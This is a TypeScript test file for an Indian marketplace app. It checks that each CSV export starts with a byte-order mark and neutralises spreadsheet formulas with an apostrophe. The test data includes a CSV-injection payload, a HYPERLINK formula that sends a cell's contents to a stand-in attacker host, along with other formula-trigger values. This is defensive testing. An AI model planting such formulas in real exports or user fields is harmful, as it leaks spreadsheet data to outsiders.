import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { financialQuarterOf, indiaDate } from '#shared/financial-year.ts';
import { catalogEndpoints } from '#shared/endpoints/catalog.ts';
import { opsMoneyEndpoints } from '#shared/endpoints/payouts-ops.ts';
import { callEndpoint, dataOf } from './testing/call-endpoint.ts';
import { signedInOperator } from './testing/ops-setup.ts';
import { creatorUpi, payeesWithPayables, sellerBank } from './testing/payout-setup.ts';
import { createdProduct } from './testing/shop-setup.ts';
import { startTestServer, type TestServer } from './testing/test-server.ts';

/*
 * Every CSV Haat writes (issue 34), downloaded as people download them: each starts with a byte-order mark (Excel
 * then reads Hindi as Hindi), and text someone typed that a spreadsheet would run as a formula is defused with an
 * apostrophe, while the amounts Haat formatted stay numbers to sum. The names are made through the real services.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C3,"Verify")';

let server: TestServer;
let operator: string;
let seller: string;
let runId: string;
let month: string;
let quarter: { year: number; quarter: number };

/** A CSV download as its bytes say it: whether it starts with the UTF-8 byte-order mark, and its rows by header. */
async function download(pathname: string, cookie: string) {
  const response = await server.fetch(pathname, { headers: { cookie } });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
  const bytes = new Uint8Array(await response.arrayBuffer());
  const rows = parse(new TextDecoder().decode(bytes), { columns: true }) as Record<string, string>[];
  return { bom: [...bytes.subarray(0, 3)].join(' '), rows };
}
const BOM = '239 187 191';

beforeAll(async () => {
  server = await startTestServer();
  operator = (await signedInOperator(server)).cookie;
  // The seller's bank account and the creator's PAN are in names that are formulas.
  const payees = await payeesWithPayables(server, {
    business: {
      businessName: 'Formula House',
      slug: 'formula-house',
      pickupPincode: '400001',
      gstin: '27AAPFU0939F1ZV',
    },
    handle: 'formula.creator',
    sellerMethod: { ...sellerBank, accountHolderName: HYPERLINK },
    creatorMethod: { ...creatorUpi, panName: '@SUM(1)' },
  });
  seller = payees.seller.cookie;
  const placedAt = new Date(payees.order.order.placedAt);
  month = indiaDate(placedAt).slice(0, 7);
  quarter = financialQuarterOf(server.deps.now());
  await createdProduct(server, seller, {
    name: '+1',
    description: HYPERLINK,
    category: 'home',
    pricePaise: 50_000,
    stock: 2,
  });
  await createdProduct(server, seller, {
    name: '-1',
    nameHi: '@SUM(1)',
    category: 'home',
    pricePaise: 50_000,
    stock: 2,
    sku: 'FX-2',
  });
  runId = dataOf(await callEndpoint(server, opsMoneyEndpoints.startRun, { body: { provider: 'manual' } }, operator)).id;
}, 90_000);

afterAll(async () => {
  await server?.close();
});

describe('every CSV download', () => {
  it('the catalog export: a byte-order mark, every text cell of a formula defused, the numbers as they are', async () => {
    const { bom, rows } = await download('/api/seller/products/export.csv', seller);
    expect(bom).toBe(BOM);
    const plus = rows.find((row) => row.name === "'+1");
    expect(plus).toMatchObject({ description: `'${HYPERLINK}`, price: '500.00', stock: '2' });
    expect(rows.find((row) => row.sku === 'FX-2')).toMatchObject({ name: "'-1", name_hi: "'@SUM(1)" });
  });

  it('the import’s problem report', async () => {
    const body = new FormData();
    body.set('file', new File(['sku,name,price\nFX-9,Kurta,=1+1\n'], 'catalog.csv', { type: 'text/csv' }));
    const answer = await callEndpoint(server, catalogEndpoints.importProducts, { body }, seller);
    expect(answer.status).toBe(422);
    const report = answer.error?.report ?? '';
    expect(report.startsWith('\uFEFF')).toBe(true);
    const problems = parse(report, { bom: true, columns: true }) as Record<string, string>[];
    expect(problems.find((problem) => problem.column === 'price')).toEqual({
      row: '2',
      column: 'price',
      value: "'=1+1",
      reason: 'Write rupees as a number, e.g. 799 or 799.50.',
    });
  });

  it('the operator’s bank file', async () => {
    const { bom, rows } = await download(`/api/ops/payout-runs/${runId}/bank-file.csv`, operator);
    expect(bom).toBe(BOM);
    expect(rows.map((row) => [row.Mode, row['Beneficiary name'], row['Amount (₹)']]).toSorted()).toEqual([
      ['NEFT', `'${HYPERLINK}`, expect.stringMatching(/^\d+\.\d\d$/)],
      ['UPI', "'@SUM(1)", '285.71'],
    ]);
  });

  it('the payee’s quarterly statement, the seller’s GSTR-1 supplies and the TCS report: numbers left to sum', async () => {
    const statement = await download(
      `/api/me/payouts/statement.csv?year=${quarter.year}&quarter=${quarter.quarter}`,
      seller,
    );
    expect(statement.bom).toBe(BOM);
    expect(statement.rows.length).toBeGreaterThan(0);
    for (const row of statement.rows) expect(row['Net paid (₹)']).toMatch(/^\d+\.\d\d$/);

    const supplies = await download(`/api/seller/reports/supplies.csv?month=${month}`, seller);
    expect(supplies.bom).toBe(BOM);
    // Every supply through Haat is type E, tagged with Haat's GSTIN as the e-commerce operator.
    expect(supplies.rows).toEqual([
      expect.objectContaining({
        Type: 'E',
        Rate: '5',
        'Taxable Value': '1428.57',
        'E-Commerce GSTIN': '29AAHCH7716R1ZO',
      }),
    ]);

    const tcs = await download(`/api/ops/tax/tcs.csv?month=${month}&state=27`, operator);
    expect(tcs.bom).toBe(BOM);
    expect(tcs.rows).toEqual([
      expect.objectContaining({
        'GSTIN or enrolment number of supplier': '27AAPFU0939F1ZV',
        'Net amount liable for TCS': '1428.57',
      }),
    ]);
  });
});
